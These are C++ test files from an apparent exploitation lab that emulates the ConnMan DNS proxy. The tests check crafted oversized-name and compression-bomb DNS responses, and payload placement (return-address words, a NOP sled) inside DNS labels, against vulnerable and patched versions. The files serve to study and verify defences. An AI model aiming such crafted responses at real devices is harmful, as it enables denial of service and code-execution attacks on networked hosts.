  EXPECT_EQ(DecodeMX(m.answers[1]).value().exchange, "mx.zone.example");
  EXPECT_EQ(DecodeNameRdata(m.answers[2]).value(), "zone.example");
  EXPECT_EQ(DecodeNameRdata(m.authorities[0]).value(), "ns2.zone.example");
  EXPECT_EQ(DecodeNameRdata(m.additionals[0]).value(), "cam.zone.example");
}

TEST(Message, QueryResponseRoundTrip) {
  Message query = Message::Query(0x1234, "device.local", Type::kA);
  Message response = Message::ResponseFor(query);
  response.answers.push_back(MakeA("device.local", "10.0.0.9", 60));

  auto wire = Encode(response);
  ASSERT_TRUE(wire.ok());
  auto decoded = Decode(wire.value());
  ASSERT_TRUE(decoded.ok());
  const Message& m = decoded.value();
  EXPECT_EQ(m.header.id, 0x1234);
  EXPECT_TRUE(m.header.qr);
  EXPECT_TRUE(m.header.ra);
  ASSERT_EQ(m.questions.size(), 1u);
  EXPECT_EQ(m.questions[0].name, "device.local");
  ASSERT_EQ(m.answers.size(), 1u);
  EXPECT_EQ(m.answers[0].type, Type::kA);
  EXPECT_EQ(FormatIPv4(m.answers[0].rdata).value(), "10.0.0.9");
  EXPECT_EQ(m.answers[0].ttl, 60u);
}

TEST(Message, HeaderFlagBits) {
  Message msg = Message::Query(7, "x.y");
  msg.header.aa = true;
  msg.header.tc = true;
  msg.header.rcode = Rcode::kNXDomain;
  auto wire = Encode(msg);
  ASSERT_TRUE(wire.ok());
  auto decoded = Decode(wire.value());
  ASSERT_TRUE(decoded.ok());
  EXPECT_TRUE(decoded.value().header.aa);
  EXPECT_TRUE(decoded.value().header.tc);
  EXPECT_TRUE(decoded.value().header.rd);
  EXPECT_EQ(decoded.value().header.rcode, Rcode::kNXDomain);
}

TEST(Message, AllSectionsRoundTrip) {
  Message msg = Message::Query(9, "multi.example");
  msg.header.qr = true;
  msg.answers.push_back(MakeA("multi.example", "1.1.1.1"));
  msg.answers.push_back(MakeAAAA("multi.example"));
  msg.authorities.push_back(MakeTXT("ns.example", "auth"));
  msg.additionals.push_back(MakeA("glue.example", "2.2.2.2"));
  auto wire = Encode(msg);
  ASSERT_TRUE(wire.ok());
  auto decoded = Decode(wire.value());
  ASSERT_TRUE(decoded.ok());
  EXPECT_EQ(decoded.value().answers.size(), 2u);
  EXPECT_EQ(decoded.value().authorities.size(), 1u);
  EXPECT_EQ(decoded.value().additionals.size(), 1u);
}

TEST(Message, DecodeRejectsTruncatedHeader) {
  EXPECT_FALSE(Decode(Bytes{1, 2, 3}).ok());
}

TEST(Message, DecodeRejectsCountMismatch) {
  Message msg = Message::Query(1, "a.b");
  auto wire = Encode(msg);
  ASSERT_TRUE(wire.ok());
  Bytes bad = wire.value();
  bad[5] = 2;  // qdcount = 2, but only one question present
  EXPECT_FALSE(Decode(bad).ok());
}

TEST(Message, SummaryMentionsQuestion) {
  Message msg = Message::Query(0xBEEF, "iot.dev", Type::kAAAA);
  const std::string s = Summary(msg);
  EXPECT_NE(s.find("0xbeef"), std::string::npos);
  EXPECT_NE(s.find("iot.dev/AAAA"), std::string::npos);
  EXPECT_NE(s.find("QUERY"), std::string::npos);
}

// ------------------------------------------------------------- crafting ----

TEST(Craft, ExpandLabelsMatchesVulnerableAlgorithm) {
  LabelSeq labels{{'a', 'b'}, {'c'}};
  EXPECT_EQ(ExpandLabels(labels), (Bytes{2, 'a', 'b', 1, 'c', 0}));
}

TEST(Craft, JunkLabelsHitExactLength) {
  for (std::size_t len : {2u, 64u, 100u, 1024u, 1500u, 4000u}) {
    auto labels = JunkLabels(len);
    ASSERT_TRUE(labels.ok()) << len;
    EXPECT_EQ(ExpandLabels(labels.value()).size(), len + 1) << len;
  }
}

TEST(Craft, CutterPlacesRequiredBytesExactly) {
  PayloadImage image(300);
  ASSERT_TRUE(image.SetWord(100, 0xDEADBEEF).ok());
  ASSERT_TRUE(image.SetBytes(200, BytesOf("PAYLOAD")).ok());
  auto labels = CutIntoLabels(image);
  ASSERT_TRUE(labels.ok()) << labels.status().ToString();
  const Bytes expanded = ExpandLabels(labels.value());
  ASSERT_GE(expanded.size(), 301u);
  EXPECT_EQ(expanded[100], 0xEF);
  EXPECT_EQ(expanded[101], 0xBE);
  EXPECT_EQ(expanded[102], 0xAD);
  EXPECT_EQ(expanded[103], 0xDE);
  EXPECT_EQ(Bytes(expanded.begin() + 200, expanded.begin() + 207),
            BytesOf("PAYLOAD"));
  EXPECT_EQ(expanded[300], 0u);  // terminator
}

TEST(Craft, CutterHonoursLongRequiredRuns) {
  // A 63-byte contiguous required run is the maximum a single label holds.
  PayloadImage image(200);
  Bytes sled(63, 0x90);
  ASSERT_TRUE(image.SetBytes(80, sled).ok());
  auto labels = CutIntoLabels(image);
  ASSERT_TRUE(labels.ok());
  const Bytes expanded = ExpandLabels(labels.value());
  for (std::size_t i = 80; i < 143; ++i) EXPECT_EQ(expanded[i], 0x90) << i;
}

TEST(Craft, CutterFailsWhenRequiredTooDense) {
  // 64 required bytes leave no cut position in the window.
  PayloadImage image(200);
  ASSERT_TRUE(image.Require(50, 64).ok());
  EXPECT_FALSE(CutIntoLabels(image).ok());
}

TEST(Craft, CutterFailsWhenByteZeroRequired) {
  PayloadImage image(100);
  ASSERT_TRUE(image.SetBytes(0, BytesOf("X")).ok());
  EXPECT_FALSE(CutIntoLabels(image).ok());
}

TEST(Craft, EveryLabelBoundaryIsOnDontCareByte) {
  PayloadImage image(500);
  for (std::size_t off = 20; off < 480; off += 40) {
    ASSERT_TRUE(image.SetWord(off, 0x11223344).ok());
  }
  auto labels = CutIntoLabels(image);
  ASSERT_TRUE(labels.ok());
  std::size_t pos = 0;
  for (const auto& label : labels.value()) {
    EXPECT_FALSE(image.required(pos)) << "cut at required byte " << pos;
    pos += 1 + label.size();
  }
  EXPECT_EQ(pos, image.size());
}

TEST(Craft, MaliciousResponseLooksLegitimateToHeaderChecks) {
  Message query = Message::Query(0xABCD, "victim.example");
  auto labels = JunkLabels(1500);
  ASSERT_TRUE(labels.ok());
  Message evil = MaliciousAResponse(query, labels.value());
  EXPECT_EQ(evil.header.id, query.header.id);
  EXPECT_TRUE(evil.header.qr);
  ASSERT_EQ(evil.questions.size(), 1u);
  EXPECT_EQ(evil.questions[0].name, "victim.example");
  ASSERT_EQ(evil.answers.size(), 1u);
  EXPECT_TRUE(evil.answers[0].uses_raw_name());
  // It encodes fine on the wire...
  auto wire = Encode(evil);
  ASSERT_TRUE(wire.ok());
  // ...but a *strict* decoder rejects it (name > 255 bytes): the packet is
  // ill-formed by RFC standards and only a sloppy parser walks into it.
  EXPECT_FALSE(Decode(wire.value()).ok());
}

TEST(Craft, PayloadImageBoundsChecked) {
  PayloadImage image(10);
  EXPECT_FALSE(image.SetWord(8, 1).ok());
  EXPECT_FALSE(image.SetBytes(10, BytesOf("x")).ok());
  EXPECT_FALSE(image.Require(5, 6).ok());
  EXPECT_TRUE(image.SetWord(6, 1).ok());
}

}  // namespace
}  // namespace connlab::dns
