// DnsProxy tests: the benign proxy path, header sanity checks, the DoS
// crash on 1.34, and the 1.35 patch — on both architectures.
#include <gtest/gtest.h>

#include "src/connman/cache.hpp"
#include "src/connman/dnsproxy.hpp"
#include "src/dns/craft.hpp"
#include "src/loader/boot.hpp"

namespace connlab::connman {
namespace {

using dns::Message;
using isa::Arch;
using loader::Boot;
using loader::ProtectionConfig;
using Kind = ProxyOutcome::Kind;

struct Target {
  std::unique_ptr<loader::System> sys;
  std::unique_ptr<DnsProxy> proxy;
};

Target MakeTarget(Arch arch, Version version,
                  ProtectionConfig prot = ProtectionConfig::None(),
                  std::uint64_t seed = 1) {
  Target t;
  auto sys = Boot(arch, prot, seed);
  EXPECT_TRUE(sys.ok()) << sys.status().ToString();
  t.sys = std::move(sys).value();
  t.proxy = std::make_unique<DnsProxy>(*t.sys, version);
  return t;
}

util::Bytes QueryWire(std::uint16_t id, const std::string& name) {
  return dns::Encode(Message::Query(id, name)).value();
}

// Sends a query through the proxy then delivers `response`.
ProxyOutcome RoundTrip(Target& t, const Message& query, const Message& response) {
  auto fwd = t.proxy->AcceptClientQuery(dns::Encode(query).value());
  EXPECT_TRUE(fwd.ok()) << fwd.status().ToString();
  return t.proxy->HandleServerResponse(dns::Encode(response).value());
}

// ------------------------------------------------------------------ cache --

TEST(Cache, InsertLookupExpiry) {
  Cache cache;
  cache.Insert("host.a", {1, 2, 3, 4}, false, 60, 1000);
  EXPECT_EQ(cache.Lookup("host.a", 1030).size(), 1u);
  EXPECT_TRUE(cache.Lookup("host.a", 1061).empty());  // expired
  EXPECT_TRUE(cache.Lookup("host.b", 1030).empty());
}

TEST(Cache, RefreshInsteadOfDuplicate) {
  Cache cache;
  cache.Insert("h", {1, 1, 1, 1}, false, 10, 0);
  cache.Insert("h", {1, 1, 1, 1}, false, 100, 50);
  EXPECT_EQ(cache.size(), 1u);
  EXPECT_EQ(cache.Lookup("h", 100).size(), 1u);
  EXPECT_EQ(cache.Lookup("h", 100)[0].expires_at, 150u);
}

TEST(Cache, DistinctRecordsCoexist) {
  Cache cache;
  cache.Insert("h", {1, 1, 1, 1}, false, 60, 0);
  cache.Insert("h", {2, 2, 2, 2}, false, 60, 0);
  util::Bytes v6(16, 0);
  cache.Insert("h", v6, true, 60, 0);
  EXPECT_EQ(cache.Lookup("h", 10).size(), 3u);
}

TEST(Cache, CapacityEvictsSoonestExpiry) {
  Cache cache(2);
  cache.Insert("a", {1, 0, 0, 1}, false, 10, 0);   // expires 10
  cache.Insert("b", {1, 0, 0, 2}, false, 100, 0);  // expires 100
  cache.Insert("c", {1, 0, 0, 3}, false, 50, 0);   // evicts "a"
  EXPECT_EQ(cache.size(), 2u);
  EXPECT_TRUE(cache.Lookup("a", 5).empty());
  EXPECT_FALSE(cache.Lookup("b", 5).empty());
}

TEST(Cache, EvictExpired) {
  Cache cache;
  cache.Insert("a", {1, 2, 3, 4}, false, 10, 0);
  cache.Insert("b", {1, 2, 3, 5}, false, 100, 0);
  EXPECT_EQ(cache.EvictExpired(50), 1u);
  EXPECT_EQ(cache.size(), 1u);
}

// ------------------------------------------------------------- frame model --

TEST(Frame, OffsetsMatchDocumentedGeometry) {
  FrameLayout x86 = FrameFor(ProtectionConfig::None(), Arch::kVX86);
  EXPECT_EQ(x86.locals_offset(), 1024u);
  EXPECT_EQ(x86.saved_regs_offset(), 1040u);
  EXPECT_EQ(x86.ret_offset(), 1056u);
  EXPECT_EQ(x86.frame_size(), 1060u);

  FrameLayout arm = FrameFor(ProtectionConfig::None(), Arch::kVARM);
  EXPECT_EQ(arm.saved_regs_size(), 32u);
  EXPECT_EQ(arm.ret_offset(), 1072u);
  EXPECT_EQ(arm.chain_offset(), 1076u);
  EXPECT_EQ(arm.null_slot0(), 1028u);
  EXPECT_EQ(arm.null_slot1(), 1032u);
}

TEST(Frame, CanaryShiftsEverythingByFour) {
  FrameLayout plain = FrameFor(ProtectionConfig::None(), Arch::kVX86);
  FrameLayout guarded = FrameFor(ProtectionConfig::All(), Arch::kVX86);
  EXPECT_EQ(guarded.ret_offset(), plain.ret_offset() + 4);
  EXPECT_EQ(guarded.canary_offset(), kNameBufSize);
}

// ------------------------------------------------------------- proxy paths --

class ProxyTest : public ::testing::TestWithParam<Arch> {};

TEST_P(ProxyTest, BenignResponseIsCachedAndForwarded) {
  Target t = MakeTarget(GetParam(), Version::k134);
  Message query = Message::Query(0x42, "iot.example.com");
  Message response = Message::ResponseFor(query);
  response.answers.push_back(dns::MakeA("iot.example.com", "93.184.216.34", 300));

  ProxyOutcome outcome = RoundTrip(t, query, response);
  EXPECT_EQ(outcome.kind, Kind::kParsedOk) << outcome.ToString();
  EXPECT_FALSE(outcome.overflowed);
  ASSERT_EQ(outcome.cached.size(), 1u);
  EXPECT_EQ(outcome.cached[0].hostname, "iot.example.com");
  EXPECT_FALSE(outcome.reply_to_client.empty());
  auto hits = t.proxy->cache().Lookup("iot.example.com", t.proxy->now() + 1);
  ASSERT_EQ(hits.size(), 1u);
  EXPECT_EQ(dns::FormatIPv4(hits[0].rdata).value(), "93.184.216.34");
}

TEST_P(ProxyTest, BenignAAAAIsCached) {
  Target t = MakeTarget(GetParam(), Version::k134);
  Message query = Message::Query(0x43, "v6.example.com", dns::Type::kAAAA);
  Message response = Message::ResponseFor(query);
  response.answers.push_back(dns::MakeAAAA("v6.example.com", 60));
  ProxyOutcome outcome = RoundTrip(t, query, response);
  EXPECT_EQ(outcome.kind, Kind::kParsedOk) << outcome.ToString();
  ASSERT_EQ(outcome.cached.size(), 1u);
  EXPECT_TRUE(outcome.cached[0].ipv6);
}

TEST_P(ProxyTest, ResponseWithWrongIdIsDumped) {
  Target t = MakeTarget(GetParam(), Version::k134);
  Message query = Message::Query(0x42, "a.example");
  auto fwd = t.proxy->AcceptClientQuery(dns::Encode(query).value());
  ASSERT_TRUE(fwd.ok());
  Message response = Message::ResponseFor(query);
  response.header.id = 0x999;  // mismatched transaction id
  response.answers.push_back(dns::MakeA("a.example", "1.2.3.4"));
  auto outcome = t.proxy->HandleServerResponse(dns::Encode(response).value());
  EXPECT_EQ(outcome.kind, Kind::kDroppedInvalid);
}

TEST_P(ProxyTest, QueryFlagPacketIsDumped) {
  Target t = MakeTarget(GetParam(), Version::k134);
  Message query = Message::Query(0x42, "a.example");
  auto fwd = t.proxy->AcceptClientQuery(dns::Encode(query).value());
  ASSERT_TRUE(fwd.ok());
  // Deliver the *query* itself as a response (QR=0).
  auto outcome = t.proxy->HandleServerResponse(dns::Encode(query).value());
  EXPECT_EQ(outcome.kind, Kind::kDroppedInvalid);
}

TEST_P(ProxyTest, QuestionEchoMismatchIsDumped) {
  Target t = MakeTarget(GetParam(), Version::k134);
  Message query = Message::Query(0x42, "a.example");
  auto fwd = t.proxy->AcceptClientQuery(dns::Encode(query).value());
  ASSERT_TRUE(fwd.ok());
  Message bogus = Message::Query(0x42, "b.example");  // different question
  bogus.header.qr = true;
  auto outcome = t.proxy->HandleServerResponse(dns::Encode(bogus).value());
  EXPECT_EQ(outcome.kind, Kind::kDroppedInvalid);
}

TEST_P(ProxyTest, ShortAndUnsolicitedPacketsAreDumped) {
  Target t = MakeTarget(GetParam(), Version::k134);
  EXPECT_EQ(t.proxy->HandleServerResponse(util::Bytes{1, 2, 3}).kind,
            Kind::kDroppedInvalid);
  Message unsolicited = Message::ResponseFor(Message::Query(0x77, "x.y"));
  EXPECT_EQ(
      t.proxy->HandleServerResponse(dns::Encode(unsolicited).value()).kind,
      Kind::kDroppedInvalid);
}

TEST_P(ProxyTest, OversizedNameCrashes134) {
  // The paper's first experiment: a Type A response whose name expands past
  // the buffer and off the stack — DoS.
  Target t = MakeTarget(GetParam(), Version::k134);
  Message query = Message::Query(0x42, "victim.example");
  auto labels = dns::JunkLabels(4000);
  ASSERT_TRUE(labels.ok());
  Message evil = dns::MaliciousAResponse(query, labels.value());
  ProxyOutcome outcome = RoundTrip(t, query, evil);
  EXPECT_EQ(outcome.kind, Kind::kCrash) << outcome.ToString();
  EXPECT_TRUE(outcome.overflowed);
  ASSERT_TRUE(outcome.stop.fault.has_value());
  EXPECT_EQ(outcome.stop.fault->kind, mem::AccessKind::kWrite);
}

TEST_P(ProxyTest, OversizedNameRejectedBy135) {
  Target t = MakeTarget(GetParam(), Version::k135);
  Message query = Message::Query(0x42, "victim.example");
  auto labels = dns::JunkLabels(4000);
  ASSERT_TRUE(labels.ok());
  Message evil = dns::MaliciousAResponse(query, labels.value());
  ProxyOutcome outcome = RoundTrip(t, query, evil);
  EXPECT_EQ(outcome.kind, Kind::kParseError) << outcome.ToString();
  EXPECT_FALSE(outcome.overflowed);
  // The daemon survives: a benign exchange still works afterwards.
  Message query2 = Message::Query(0x43, "ok.example");
  Message response2 = Message::ResponseFor(query2);
  response2.answers.push_back(dns::MakeA("ok.example", "5.6.7.8"));
  EXPECT_EQ(RoundTrip(t, query2, response2).kind, Kind::kParsedOk);
}

TEST_P(ProxyTest, ModerateOverflowSmashesFrameWithoutLeavingStack) {
  // Overflow past the return slot but within the mapping: the epilogue
  // loads a corrupted return address -> control-flow crash (not a
  // mid-copy segfault). 0x41414141 is not mapped on either arch.
  Target t = MakeTarget(GetParam(), Version::k134);
  Message query = Message::Query(0x42, "victim.example");
  auto labels = dns::JunkLabels(1200);
  ASSERT_TRUE(labels.ok());
  Message evil = dns::MaliciousAResponse(query, labels.value());
  ProxyOutcome outcome = RoundTrip(t, query, evil);
  EXPECT_EQ(outcome.kind, Kind::kCrash) << outcome.ToString();
  EXPECT_TRUE(outcome.overflowed);
}

TEST_P(ProxyTest, TruncatedRdataIsParseErrorNotCrash) {
  Target t = MakeTarget(GetParam(), Version::k134);
  Message query = Message::Query(0x42, "victim.example");
  Message response = Message::ResponseFor(query);
  response.answers.push_back(dns::MakeA("victim.example", "1.2.3.4"));
  auto wire = dns::Encode(response).value();
  wire.resize(wire.size() - 3);  // cut into the rdata
  auto fwd = t.proxy->AcceptClientQuery(dns::Encode(query).value());
  ASSERT_TRUE(fwd.ok());
  auto outcome = t.proxy->HandleServerResponse(wire);
  EXPECT_EQ(outcome.kind, Kind::kParseError);
}

TEST_P(ProxyTest, StatsTrackOutcomes) {
  Target t = MakeTarget(GetParam(), Version::k134);
  Message query = Message::Query(1, "s.example");
  Message response = Message::ResponseFor(query);
  response.answers.push_back(dns::MakeA("s.example", "1.1.1.1"));
  RoundTrip(t, query, response);
  EXPECT_EQ(t.proxy->stats().queries, 1u);
  EXPECT_EQ(t.proxy->stats().responses, 1u);
  EXPECT_EQ(t.proxy->stats().parsed_ok, 1u);
  EXPECT_EQ(t.proxy->stats().crashes, 0u);
}

TEST_P(ProxyTest, CompressedNamesInBenignResponsesWork) {
  // A response using a compression pointer back into the question.
  Target t = MakeTarget(GetParam(), Version::k134);
  Message query = Message::Query(0x55, "c.example.net");
  auto fwd = t.proxy->AcceptClientQuery(dns::Encode(query).value());
  ASSERT_TRUE(fwd.ok());

  // Hand-build: header + question echo + answer with name = pointer to 12.
  util::ByteWriter w;
  w.WriteU16BE(0x55);
  w.WriteU16BE(0x8180);  // QR|RD|RA
  w.WriteU16BE(1);
  w.WriteU16BE(1);
  w.WriteU16BE(0);
  w.WriteU16BE(0);
  ASSERT_TRUE(dns::EncodeName(w, "c.example.net").ok());
  w.WriteU16BE(1);  // qtype A
  w.WriteU16BE(1);  // qclass IN
  w.WriteU8(0xC0);  // pointer to offset 12 (the question name)
  w.WriteU8(12);
  w.WriteU16BE(1);
  w.WriteU16BE(1);
  w.WriteU32BE(60);
  w.WriteU16BE(4);
  w.WriteBytes(util::Bytes{9, 9, 9, 9});
  auto outcome = t.proxy->HandleServerResponse(w.bytes());
  EXPECT_EQ(outcome.kind, Kind::kParsedOk) << outcome.ToString();
  ASSERT_EQ(outcome.cached.size(), 1u);
}

TEST_P(ProxyTest, PointerLoopIsParseErrorNotHang) {
  Target t = MakeTarget(GetParam(), Version::k134);
  Message query = Message::Query(0x66, "l.example");
  auto fwd = t.proxy->AcceptClientQuery(dns::Encode(query).value());
  ASSERT_TRUE(fwd.ok());
  util::ByteWriter w;
  w.WriteU16BE(0x66);
  w.WriteU16BE(0x8180);
  w.WriteU16BE(1);
  w.WriteU16BE(1);
  w.WriteU16BE(0);
  w.WriteU16BE(0);
  ASSERT_TRUE(dns::EncodeName(w, "l.example").ok());
  w.WriteU16BE(1);
  w.WriteU16BE(1);
  const std::size_t loop_at = w.size();
  w.WriteU8(0xC0);  // pointer to itself
  w.WriteU8(static_cast<std::uint8_t>(loop_at));
  auto outcome = t.proxy->HandleServerResponse(w.bytes());
  EXPECT_EQ(outcome.kind, Kind::kParseError);
}

TEST_P(ProxyTest, AcceptClientQueryValidates) {
  Target t = MakeTarget(GetParam(), Version::k134);
  // Not a query:
  Message resp = Message::ResponseFor(Message::Query(1, "x.y"));
  EXPECT_FALSE(t.proxy->AcceptClientQuery(dns::Encode(resp).value()).ok());
  // Garbage:
  EXPECT_FALSE(t.proxy->AcceptClientQuery(util::Bytes{1, 2}).ok());
  // Good:
  EXPECT_TRUE(t.proxy->AcceptClientQuery(QueryWire(2, "ok.example")).ok());
}

TEST_P(ProxyTest, CanaryBuildAbortsInsteadOfHijack) {
  Target t = MakeTarget(GetParam(), Version::k134, ProtectionConfig::All(), 9);
  Message query = Message::Query(0x42, "victim.example");
  auto labels = dns::JunkLabels(1200);
  ASSERT_TRUE(labels.ok());
  Message evil = dns::MaliciousAResponse(query, labels.value());
  ProxyOutcome outcome = RoundTrip(t, query, evil);
  // On VARM the junk also trips the parse_rr pointer slots (a crash in
  // parse_rr) before the canary check; either way, no hijack.
  EXPECT_TRUE(outcome.kind == Kind::kAbort || outcome.kind == Kind::kCrash)
      << outcome.ToString();
}

INSTANTIATE_TEST_SUITE_P(BothArchs, ProxyTest,
                         ::testing::Values(Arch::kVX86, Arch::kVARM),
                         [](const auto& info) {
                           return info.param == Arch::kVX86 ? "vx86" : "varm";
                         });

}  // namespace
}  // namespace connlab::connman

namespace connlab::connman {
namespace {

using dns::Message;
using isa::Arch;
using loader::Boot;
using loader::ProtectionConfig;
using Kind = ProxyOutcome::Kind;

// The guest-interpreted copy loop (connman.copy_label) must be outcome-
// equivalent to the host-side reference implementation in every regime.
class GuestCopyTest : public ::testing::TestWithParam<Arch> {};

TEST_P(GuestCopyTest, BenignOutcomeIdenticalInBothModes) {
  for (bool guest : {false, true}) {
    auto sys = Boot(GetParam(), ProtectionConfig::None(), 4).value();
    DnsProxy proxy(*sys, Version::k134);
    proxy.set_guest_copy(guest);
    Message query = Message::Query(0x42, "host.example");
    ASSERT_TRUE(proxy.AcceptClientQuery(dns::Encode(query).value()).ok());
    Message response = Message::ResponseFor(query);
    response.answers.push_back(dns::MakeA("host.example", "9.9.9.9", 60));
    auto outcome = proxy.HandleServerResponse(dns::Encode(response).value());
    EXPECT_EQ(outcome.kind, Kind::kParsedOk) << "guest=" << guest;
    EXPECT_EQ(outcome.cached.size(), 1u);
  }
}

TEST_P(GuestCopyTest, BufferContentsIdenticalInBothModes) {
  util::Bytes images[2];
  for (int mode = 0; mode < 2; ++mode) {
    auto sys = Boot(GetParam(), ProtectionConfig::None(), 4).value();
    DnsProxy proxy(*sys, Version::k134);
    proxy.set_guest_copy(mode == 1);
    Message query = Message::Query(0x42, "abc.example.net");
    ASSERT_TRUE(proxy.AcceptClientQuery(dns::Encode(query).value()).ok());
    Message response = Message::ResponseFor(query);
    response.answers.push_back(dns::MakeA("abc.example.net", "9.9.9.9", 60));
    auto outcome = proxy.HandleServerResponse(dns::Encode(response).value());
    ASSERT_EQ(outcome.kind, Kind::kParsedOk);
    const mem::GuestAddr fb = FrameBase(sys->layout, proxy.frame());
    images[mode] = sys->space.DebugRead(fb, 64).value();
  }
  EXPECT_EQ(images[0], images[1]);
  // And the expanded name really is in the buffer (interleaved form).
  EXPECT_EQ(images[1][0], 3u);  // len("abc")
  EXPECT_EQ(images[1][1], 'a');
}

TEST_P(GuestCopyTest, DosCrashIdenticalInBothModes) {
  for (bool guest : {false, true}) {
    auto sys = Boot(GetParam(), ProtectionConfig::None(), 4).value();
    DnsProxy proxy(*sys, Version::k134);
    proxy.set_guest_copy(guest);
    Message query = Message::Query(0x42, "victim.example");
    ASSERT_TRUE(proxy.AcceptClientQuery(dns::Encode(query).value()).ok());
    auto labels = dns::JunkLabels(4000).value();
    auto outcome = proxy.HandleServerResponse(
        dns::Encode(dns::MaliciousAResponse(query, labels)).value());
    EXPECT_EQ(outcome.kind, Kind::kCrash) << "guest=" << guest;
    ASSERT_TRUE(outcome.stop.fault.has_value()) << "guest=" << guest;
    EXPECT_EQ(outcome.stop.fault->kind, mem::AccessKind::kWrite);
    if (guest) {
      // The fault comes from the interpreted strb inside copy_label: the
      // stop pc sits inside the routine, not at a synthesized symbol.
      const auto copy_fn = sys->Sym("connman.copy_label").value();
      EXPECT_GE(outcome.stop.pc, copy_fn);
      EXPECT_LT(outcome.stop.pc, copy_fn + 0x40);
    }
  }
}

TEST_P(GuestCopyTest, GuestModeIsDefaultAndTogglable) {
  auto sys = Boot(GetParam(), ProtectionConfig::None(), 4).value();
  DnsProxy proxy(*sys, Version::k134);
  EXPECT_TRUE(proxy.guest_copy());
  proxy.set_guest_copy(false);
  EXPECT_FALSE(proxy.guest_copy());
}

INSTANTIATE_TEST_SUITE_P(BothArchs, GuestCopyTest,
                         ::testing::Values(Arch::kVX86, Arch::kVARM),
                         [](const auto& info) {
                           return info.param == Arch::kVX86 ? "vx86" : "varm";
                         });

}  // namespace
}  // namespace connlab::connman
