// Cross-module integration tests: daemon longevity across mixed traffic,
// the compression-amplified DoS, roaming sequences, and end-to-end flows
// that span net + connman + exploit + attack.
#include <gtest/gtest.h>

#include "src/attack/scenario.hpp"
#include "src/connman/dnsproxy.hpp"
#include "src/dns/craft.hpp"
#include "src/exploit/generator.hpp"
#include "src/exploit/profile.hpp"
#include "src/loader/boot.hpp"
#include "src/net/dns_client.hpp"
#include "src/net/pineapple.hpp"

namespace connlab {
namespace {

using connman::DnsProxy;
using connman::ProxyOutcome;
using connman::Version;
using isa::Arch;
using loader::Boot;
using loader::ProtectionConfig;
using Kind = ProxyOutcome::Kind;

// ------------------------------------------------ compression bomb ----

TEST(CompressionBomb, SmallWireLargeExpansion) {
  dns::Message query = dns::Message::Query(0x42, "victim.example");
  auto wire = dns::CompressionBombResponse(query, 4);
  ASSERT_TRUE(wire.ok()) << wire.status().ToString();
  // Four 63-byte labels + pointer: the packet itself stays compact.
  EXPECT_LT(wire.value().size(), 350u);
}

TEST(CompressionBomb, Crashes134OnBothArchs) {
  for (Arch arch : {Arch::kVX86, Arch::kVARM}) {
    auto sys = Boot(arch, ProtectionConfig::None(), 3).value();
    DnsProxy proxy(*sys, Version::k134);
    dns::Message query = dns::Message::Query(0x42, "victim.example");
    ASSERT_TRUE(proxy.AcceptClientQuery(dns::Encode(query).value()).ok());
    auto wire = dns::CompressionBombResponse(query, 4);
    ASSERT_TRUE(wire.ok());
    auto outcome = proxy.HandleServerResponse(wire.value());
    // ~10 hops x 4 labels x 64 bytes ≈ 2.8 KiB of expansion from a ~300
    // byte packet: straight off the top of the stack.
    EXPECT_EQ(outcome.kind, Kind::kCrash) << outcome.ToString();
    EXPECT_GT(outcome.name_bytes_written, 1024u);
  }
}

TEST(CompressionBomb, RejectedBy135) {
  auto sys = Boot(Arch::kVARM, ProtectionConfig::None(), 3).value();
  DnsProxy proxy(*sys, Version::k135);
  dns::Message query = dns::Message::Query(0x42, "victim.example");
  ASSERT_TRUE(proxy.AcceptClientQuery(dns::Encode(query).value()).ok());
  auto wire = dns::CompressionBombResponse(query, 4);
  ASSERT_TRUE(wire.ok());
  auto outcome = proxy.HandleServerResponse(wire.value());
  EXPECT_EQ(outcome.kind, Kind::kParseError) << outcome.ToString();
}

TEST(CompressionBomb, SmallRunIsHarmlessEitherVersion) {
  // One 63-byte label re-expanded <=10 times stays within ~640 bytes plus
  // length bytes: under the buffer size, so both versions simply parse a
  // (weird) name. No crash — the amplification factor is what matters.
  for (Version version : {Version::k134, Version::k135}) {
    auto sys = Boot(Arch::kVX86, ProtectionConfig::None(), 3).value();
    DnsProxy proxy(*sys, version);
    dns::Message query = dns::Message::Query(0x42, "victim.example");
    ASSERT_TRUE(proxy.AcceptClientQuery(dns::Encode(query).value()).ok());
    auto wire = dns::CompressionBombResponse(query, 1);
    ASSERT_TRUE(wire.ok());
    auto outcome = proxy.HandleServerResponse(wire.value());
    EXPECT_NE(outcome.kind, Kind::kCrash) << outcome.ToString();
  }
}

TEST(CompressionBomb, ArgumentValidation) {
  dns::Message query = dns::Message::Query(1, "a.b");
  EXPECT_FALSE(dns::CompressionBombResponse(query, 0).ok());
  EXPECT_FALSE(dns::CompressionBombResponse(query, 100).ok());
  dns::Message no_question;
  EXPECT_FALSE(dns::CompressionBombResponse(no_question, 4).ok());
}

// ----------------------------------------------------- daemon longevity ----

TEST(Longevity, ProxySurvivesMixedHostileTrafficOn135) {
  auto sys = Boot(Arch::kVARM, ProtectionConfig::WxAslr(), 8).value();
  DnsProxy proxy(*sys, Version::k135);
  util::Rng rng(99);
  int benign_ok = 0;
  for (int round = 0; round < 30; ++round) {
    const auto id = static_cast<std::uint16_t>(0x100 + round);
    dns::Message query = dns::Message::Query(id, "host.example");
    ASSERT_TRUE(proxy.AcceptClientQuery(dns::Encode(query).value()).ok());
    switch (round % 3) {
      case 0: {  // benign
        dns::Message response = dns::Message::ResponseFor(query);
        response.answers.push_back(dns::MakeA("host.example", "1.2.3.4", 60));
        auto outcome =
            proxy.HandleServerResponse(dns::Encode(response).value());
        benign_ok += outcome.kind == Kind::kParsedOk ? 1 : 0;
        break;
      }
      case 1: {  // oversized junk
        auto labels = dns::JunkLabels(2048 + rng.NextBelow(2048)).value();
        auto evil = dns::MaliciousAResponse(query, labels);
        auto outcome = proxy.HandleServerResponse(dns::Encode(evil).value());
        EXPECT_EQ(outcome.kind, Kind::kParseError);
        break;
      }
      default: {  // compression bomb
        auto wire = dns::CompressionBombResponse(query, 4).value();
        auto outcome = proxy.HandleServerResponse(wire);
        EXPECT_EQ(outcome.kind, Kind::kParseError);
        break;
      }
    }
  }
  EXPECT_EQ(benign_ok, 10);
  EXPECT_EQ(proxy.stats().crashes, 0u);
}

TEST(Longevity, VulnerableProxyStillWorksAfterFailedExploitAttempts) {
  // A wrong-level exploit (code injection vs W^X) crashes the daemon; the
  // device supervisor would restart it. Model: a fresh boot per crash, but
  // non-crashing failures (dropped packets) must not poison later traffic.
  auto sys = Boot(Arch::kVX86, ProtectionConfig::WxOnly(), 8).value();
  DnsProxy proxy(*sys, Version::k134);
  // Dropped-invalid hostile packets:
  for (int i = 0; i < 5; ++i) {
